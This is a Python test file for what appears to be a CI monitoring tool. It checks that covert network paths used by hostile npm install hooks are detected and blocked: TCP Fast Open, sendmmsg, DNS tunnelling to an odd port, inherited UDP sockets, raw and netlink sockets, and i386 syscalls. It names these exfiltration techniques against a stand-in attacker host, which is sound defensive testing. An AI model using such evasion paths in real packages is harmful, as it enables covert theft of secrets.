"""Socket paths out of the build that don't go through connect(), each from a real npm
postinstall hook (tests/support/c/sock_probe.c): TCP Fast Open by sendto and by sendmsg, a
sendmmsg whose one bad message comes after hundreds of harmless ones, DNS over UDP to an odd
port, a connected UDP socket used by a forked child, raw and packet sockets, and netlink
changes to the network.

Each is shown to work bare first (the test internet receives it), then ciwatch records it and
judges it with the right rule naming the package and hook (audit), then refuses it (block,
and ``--net sandbox`` for the traffic): the attacker's host receives nothing.
"""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pytest

from ciwatch.record.events import Anomaly, DnsQuery, Event, NetConnect, NetSend, Refusal
from ciwatch.record.vocabulary import RefusedWhat, Transport
from tests.support.attacks import assert_found, assert_replay_agrees
from tests.support.cprograms import program
from tests.support.hooks import HOOK, Hooks, assert_exit, assert_refused, bare_probe
from tests.support.internet import EVIL, UDP_PORT, TestInternet

pytestmark = [pytest.mark.npm, pytest.mark.root]

PROBE = "sock_probe"


# -- TCP Fast Open: a connect made by sendto/sendmsg ---------------------------------------


@pytest.mark.parametrize("how", ["tfo", "tfo-msg"])
def test_fast_open_works_bare(internet: TestInternet, evil_ip: str, how: str) -> None:
    out = bare_probe(PROBE, how, evil_ip, "80")
    assert f"{how} reply HTTP/1." in out, out
    assert [r.path for r in internet.requests_to(EVIL)] == ["/tfo"]


@pytest.mark.parametrize("how", ["tfo", "tfo-msg"])
def test_fast_open_goes_through_the_proxy_and_is_judged(
    internet: TestInternet, hooks: Hooks, evil_ip: str, how: str
) -> None:
    watched, package = hooks.install_probe(PROBE, f"fast-open-{how}", [how, evil_ip, "80"])
    assert_exit(watched, 0)
    assert_found(watched, "unfamiliar-egress", package, HOOK)
    connects = watched.events(NetConnect)
    assert any(c.address == evil_ip and c.port == 80 and c.via == "proxy" and c.inode for c in connects), connects
    assert [r.path for r in internet.requests_to(EVIL)] == ["/tfo"]  # audit: it went, via the proxy
    assert_replay_agrees(watched)


@pytest.mark.parametrize("net", [None, pytest.param("sandbox", marks=pytest.mark.root)])
@pytest.mark.parametrize("how", ["tfo", "tfo-msg"])
def test_fast_open_is_refused_in_block_mode(
    internet: TestInternet, hooks: Hooks, evil_ip: str, how: str, net: str | None
) -> None:
    watched, package = hooks.install_probe(PROBE, f"fast-open-{how}", [how, evil_ip, "80"], mode="block", net=net)
    assert_refused(watched)
    assert_found(watched, "unfamiliar-egress", package, HOOK)
    assert internet.requests_to(EVIL) == []


# -- sendmmsg: every message judged, however many --------------------------------------------


def test_sendmmsg_last_message_works_bare(internet: TestInternet, evil_ip: str) -> None:
    out = bare_probe(PROBE, "mmsg", evil_ip, str(UDP_PORT), "300")
    assert "mmsg ok 300" in out, out
    assert [d.data for d in internet.udp_datagrams(EVIL, at_least=1)] == [b"mmsg-exfil"]


def test_sendmmsg_message_300_is_recorded_and_judged(hooks: Hooks, evil_ip: str) -> None:
    watched, package = hooks.install_probe(PROBE, "many-messages", ["mmsg", evil_ip, str(UDP_PORT), "300"])
    assert_exit(watched, 0)
    sends = watched.events(NetSend)
    assert [s.address for s in sends if s.address == evil_ip] == [evil_ip]
    assert_found(watched, "proxy-bypass", package, HOOK)
    assert_replay_agrees(watched)


def test_sendmmsg_message_300_is_refused_in_block_mode(internet: TestInternet, hooks: Hooks, evil_ip: str) -> None:
    args = ["mmsg", evil_ip, str(UDP_PORT), "300"]
    watched, package = hooks.install_probe(PROBE, "many-messages", args, mode="block")
    assert_refused(watched)
    assert_found(watched, "proxy-bypass", package, HOOK)
    assert internet.udp_datagrams(EVIL, timeout=1.0) == []


# -- DNS over UDP to any port ----------------------------------------------------------------

NAME = "c2VjcmV0.tunnel.exfil.test"


def test_dns_to_an_odd_port_works_bare(internet: TestInternet, evil_ip: str) -> None:
    out = bare_probe(PROBE, "dns", evil_ip, str(UDP_PORT), NAME)
    assert "dns ok" in out
    (datagram,) = internet.udp_datagrams(EVIL, at_least=1)
    assert b"c2VjcmV0" in datagram.data


def test_dns_to_an_odd_port_is_named_and_judged(hooks: Hooks, evil_ip: str) -> None:
    watched, package = hooks.install_probe(PROBE, "odd-port-dns", ["dns", evil_ip, str(UDP_PORT), NAME])
    assert_exit(watched, 0)
    queries = watched.events(DnsQuery)
    assert any(q.name == NAME and q.server == evil_ip and q.port == UDP_PORT for q in queries), queries
    assert_found(watched, "proxy-bypass", package, HOOK)
    assert_replay_agrees(watched)


def test_dns_to_an_odd_port_is_refused_and_the_refusal_names_it(
    internet: TestInternet, hooks: Hooks, evil_ip: str
) -> None:
    watched, _package = hooks.install_probe(PROBE, "odd-port-dns", ["dns", evil_ip, str(UDP_PORT), NAME], mode="block")
    assert_refused(watched)
    refusals = watched.events(Refusal)
    assert any(r.what == RefusedWhat.DNS and r.target == NAME for r in refusals), refusals
    assert internet.udp_datagrams(EVIL, timeout=1.0) == []


# -- a connected UDP socket, used by a child that inherited it --------------------------------


def test_inherited_udp_socket_works_bare(internet: TestInternet, evil_ip: str) -> None:
    out = bare_probe(PROBE, "udp-fork", evil_ip, str(UDP_PORT))
    assert "udp-send ok 15" in out, out
    assert [d.data for d in internet.udp_datagrams(EVIL, at_least=1)] == [b"inherited-exfil"]


def test_inherited_udp_socket_send_is_recorded(hooks: Hooks, evil_ip: str) -> None:
    watched, package = hooks.install_probe(PROBE, "udp-inherit", ["udp-fork", evil_ip, str(UDP_PORT)])
    assert_exit(watched, 0)
    events = watched.events(Event)
    (connect,) = [e for e in events if isinstance(e, NetConnect) and e.address == evil_ip]
    assert connect.protocol == Transport.UDP and connect.inode
    sends = [e for e in events if isinstance(e, NetSend) and e.address == evil_ip]
    assert sends and all(s.pid != connect.pid for s in sends)  # the child's send, by its own pid
    assert_found(watched, "proxy-bypass", package, HOOK)


def test_inherited_udp_socket_is_refused_at_connect_in_block_mode(
    internet: TestInternet, hooks: Hooks, evil_ip: str
) -> None:
    watched, package = hooks.install_probe(PROBE, "udp-inherit", ["udp-fork", evil_ip, str(UDP_PORT)], mode="block")
    assert_refused(watched)
    assert_found(watched, "proxy-bypass", package, HOOK)
    assert internet.udp_datagrams(EVIL, timeout=1.0) == []


# -- raw and packet sockets, netlink changes (tracer-evasion) ---------------------------------


@pytest.mark.parametrize("kind", ["raw", "packet"])
def test_raw_and_packet_sockets(hooks: Hooks, kind: str) -> None:
    assert f"{kind} ok" in bare_probe(PROBE, kind)
    audit, package = hooks.install_probe(PROBE, f"{kind}-socket", [kind], under="audit")
    assert f"{kind} ok" in audit.output
    found = assert_found(audit, "tracer-evasion", package, HOOK)
    assert found[0]["severity"] == "high" and audit.verdict["verdict"] == "fail"
    block, package = hooks.install_probe(PROBE, f"{kind}-socket-b", [kind], under="block", mode="block")
    assert_refused(block)
    assert f"{kind} failed: Operation not permitted" in block.output
    assert_found(block, "tracer-evasion", package, HOOK)


def _in_own_netns(tmp_path: Path, mode: str) -> tuple[subprocess.CompletedProcess[str], dict[str, object]]:
    """ciwatch (--net off) in a network namespace of the test's own, so a change to it
    changes nothing on the machine."""
    out = tmp_path / f"out-{mode}"
    args = [sys.executable, "-m", "ciwatch", "run", "--net", "off", "--mode", mode, "--out", str(out)]
    script = f"ip link set lo up && {' '.join(args)} -- {program('sock_probe')} netlink; ip -4 addr show lo"
    done = subprocess.run(["unshare", "-n", "sh", "-c", script], capture_output=True, text=True, timeout=120)
    return done, json.loads((out / "verdict.json").read_text())


def test_netlink_change_of_addresses(tmp_path: Path) -> None:
    bare = subprocess.run(
        ["unshare", "-n", "sh", "-c", f"{program('sock_probe')} netlink; ip -4 addr show lo"],
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert "10.99.0.1" in bare.stdout, bare.stdout
    audit, verdict = _in_own_netns(tmp_path, "audit")
    assert "10.99.0.1" in audit.stdout
    findings = [f for f in verdict["findings"] if f["rule"] == "tracer-evasion"]  # type: ignore[attr-defined]
    assert len(findings) == 1 and "rtnetlink message type 20" in findings[0]["message"], findings  # RTM_NEWADDR only
    block, verdict = _in_own_netns(tmp_path, "block")
    assert "netlink-get ok" in block.stdout and "netlink-newaddr failed: Operation not permitted" in block.stdout
    assert "10.99.0.1" not in block.stdout and verdict["verdict"] == "fail"


def test_netlink_change_by_ip_through_sendmsg(tmp_path: Path) -> None:
    """iproute2 sends its requests with sendmsg: `ip addr add` is refused in block mode, while
    the dumps of `ip addr show` are not reported."""
    script = []
    for mode, address in (("audit", "10.99.0.2"), ("block", "10.99.0.3")):
        args = [sys.executable, "-m", "ciwatch", "run", "--net", "off", "--mode", mode, "--out", str(tmp_path / mode)]
        script.append(f"{' '.join(args)} -- sh -c 'ip -4 addr show lo; ip addr add {address}/32 dev lo'")
    done = subprocess.run(
        ["unshare", "-n", "sh", "-c", "ip link set lo up; " + "; ".join(script) + "; ip -4 addr show lo"],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert "10.99.0.2" in done.stdout and "10.99.0.3" not in done.stdout, done.stdout + done.stderr
    for mode in ("audit", "block"):
        verdict = json.loads((tmp_path / mode / "verdict.json").read_text())
        messages = [f["message"] for f in verdict["findings"] if f["rule"] == "tracer-evasion"]
        assert verdict["verdict"] == "fail" and messages and all("type 20" in m for m in messages), messages


# -- another ABI: i386 socket calls through int 0x80 ------------------------------------------


def test_int80_connect_works_bare(internet: TestInternet, evil_ip: str) -> None:
    out = bare_probe(PROBE, "int80", evil_ip, "80")
    assert "int80 reply HTTP/1." in out, out
    assert [r.path for r in internet.requests_to(EVIL)] == ["/int80"]


def test_int80_connect_is_recorded_and_refused_in_block_mode(
    internet: TestInternet, hooks: Hooks, evil_ip: str
) -> None:
    """The tracer can't decode (or redirect) an i386 connect: audit records the foreign-ABI
    anomaly (proxy-bypass); block mode refuses every syscall of another ABI that it would act on
    in x86_64."""
    audit, package = hooks.install_probe(PROBE, "int80-connect", ["int80", evil_ip, "80"], under="audit")
    found = assert_found(audit, "proxy-bypass", package, HOOK)
    assert any("i386 (int 0x80) syscall" in f["message"] for f in found), audit.described()
    anomalies = audit.events(Anomaly)
    assert any(a.detail == "i386 (int 0x80) syscall connect" for a in anomalies), anomalies
    internet.reset_logs()
    block, package = hooks.install_probe(
        PROBE, "int80-connect-b", ["int80", evil_ip, "80"], under="block", mode="block"
    )
    assert_refused(block)
    assert "int80-connect failed: Operation not permitted" in block.output
    assert_found(block, "tracer-evasion", package, HOOK)
    assert internet.requests_to(EVIL) == []
